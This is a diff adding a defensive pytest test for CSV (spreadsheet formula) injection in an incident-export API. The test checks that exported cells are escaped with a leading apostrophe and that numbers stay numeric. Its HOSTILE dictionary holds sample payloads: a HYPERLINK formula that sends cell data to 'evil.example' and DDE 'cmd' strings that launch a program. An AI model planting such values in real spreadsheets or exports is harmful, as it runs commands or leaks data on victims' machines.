@@ -371,3 +371,51 @@ async def test_bad_input_is_a_problem_never_a_500(client, world, path, params, s
 async def test_nobody_exports_without_signing_in(client, world):
     r = await client.get("/api/exports/incidents.csv")
     assert r.status_code == 401 and r.headers["content-type"].startswith("application/problem+json")
+
+
+# -- spreadsheets -------------------------------------------------------------------------------------
+HOSTILE = {  # police.uk column -> text a spreadsheet would run as a formula
+    "Crime type": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+    "Location": "+cmd|' /C calc'!A0",
+    "LSOA name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Last outcome category": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+async def test_csv_text_never_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(client, make_caller, settings,
+                                                                                     tmp_path):
+    """Partner data imported the normal way (a police.uk file), with text that Excel or LibreOffice
+    would take as formulas: the CSV export defends each such cell with a leading ' (OWASP), while
+    negative longitudes and every number stay plain numbers; other formats keep the text as it is."""
+    from rich.console import Console
+
+    from app.ingest.police_uk import import_paths
+    admin = await make_caller("hostile", "admin")
+    header = ["Crime ID", "Month", "Reported by", "Falls within", "Longitude", "Latitude", "Location", "LSOA code",
+              "LSOA name", "Crime type", "Last outcome category", "Context"]
+    row = {"Crime ID": "x1", "Month": "2024-01", "Reported by": "Test Constabulary",
+           "Falls within": "Test Constabulary", "Longitude": "-2.242600", "Latitude": "53.480800",
+           "LSOA code": "E01005001", "Context": "", **HOSTILE}
+    source = tmp_path / "2024-01-test-constabulary-street.csv"
+    with source.open("w", newline="", encoding="utf-8") as f:
+        writer = csv.DictWriter(f, header)
+        writer.writeheader()
+        writer.writerow(row)
+    assert await import_paths(settings, [source], "hostile", Console(file=io.StringIO())) is True
+
+    r = await client.get("/api/exports/incidents.csv", headers=admin.headers)
+    assert r.status_code == 200
+    [got] = list(csv.DictReader(io.StringIO(r.text)))
+    assert got["category"] == "'" + HOSTILE["Crime type"]
+    assert got["location_text"] == "'" + HOSTILE["Location"]
+    assert got["lsoa_name"] == "'" + HOSTILE["LSOA name"]
+    assert got["outcome"] == "'" + HOSTILE["Last outcome category"]
+    # numbers are written as numbers: a minus sign that is a number's is not defended
+    assert got["lon"].startswith("-2.2426") and float(got["lon"]) == pytest.approx(-2.2426)
+    x, y = bng(-2.2426, 53.4808)
+    assert float(got["easting"]) == pytest.approx(x, abs=0.01) and float(got["northing"]) == pytest.approx(y, abs=0.01)
+    assert got["id"].isdigit() and got["count"] == "1"
+    # only the CSV, which spreadsheets open, is defended: GeoJSON carries the text as it came
+    feature = (await client.get("/api/exports/incidents.geojson", headers=admin.headers)).json()["features"][0]
+    assert feature["properties"]["category"] == HOSTILE["Crime type"]
+    assert feature["properties"]["location_text"] == HOSTILE["Location"]
